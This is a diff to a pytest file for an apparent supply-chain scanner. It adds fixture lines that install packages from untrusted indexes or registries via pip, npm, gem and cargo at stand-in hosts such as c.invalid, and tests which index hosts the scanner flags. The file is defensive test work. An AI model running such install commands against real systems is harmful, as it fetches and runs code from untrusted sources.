@@ -284,6 +284,15 @@ def test_a_program_that_an_interpreter_runs_from_an_address_is_found_except_from
         ("package.json", '{"dependencies": {"b": "git+https://c.invalid/b"}}'),
         ("package-lock.json", '{"packages": {"a": {"resolved": "https://c.invalid/a.tgz"}}}'),
         (".yarnrc.yml", 'npmRegistryServer: "https://c.invalid/npm"\n'),
+        ("a.sh", "pip install -i https://c.invalid/simple helper"),
+        ("a.sh", "python3 -m pip3 install -U --trusted-host c.invalid -i http://c.invalid/simple helper"),
+        (
+            "a.py",
+            'subprocess.check_call([sys.executable, "-m", "pip", "install", "-i", "https://c.invalid/s", "helper"])',
+        ),
+        ("a.py", 'subprocess.run(["npm", "install", "--registry", "https://c.invalid", "helper"])'),
+        ("a.sh", "gem install helper --source https://c.invalid"),
+        ("a.sh", "cargo install --git https://c.invalid/helper"),
         (".cargo/config.toml", '[source.m]\nregistry = "sparse+https://c.invalid/"\n'),
     ],
 )
@@ -308,3 +317,24 @@ def test_attack_a_list_of_dependencies_names_the_address_of_a_package(path, text
 )
 def test_addresses_that_are_no_dependencies_are_accepted(path, text):
     assert not {finding.rule for finding in scan(Tree({path: File(text.encode())}))} & {"SH106", "SH117"}
+
+
+@pytest.mark.parametrize(
+    ("host", "rule"),
+    [
+        *((host, "SH117") for host in ("c.invalid", "203.0.113.9", "pypi.org.c.invalid", "example.xyz")),
+        *((host, "SH106") for host in ("packages.acme-tools.com", "pypi.org.acme-tools.com", "notpypi.org")),
+        *(
+            (host, None)
+            for host in ("pypi.org", "download.pytorch.org", "pypi.tuna.tsinghua.edu.cn:443", "localhost:3141")
+        ),
+        *(
+            (host, None)
+            for host in ("10.1.2.3:8080", "your-index.com", "pypi.example.com", "pypi", "us-python.pkg.dev")
+        ),
+    ],
+)
+def test_attack_an_index_is_judged_by_who_runs_it(host, rule):
+    for command in ("pip install -i https://{}/simple a", "uv pip install --extra-index-url 'https://{}/simple' a"):
+        found = {each.rule for each in scan(Tree({"a.sh": File(command.format(host).encode())}))}
+        assert found & {"SH106", "SH117"} == ({rule} if rule else set()), command
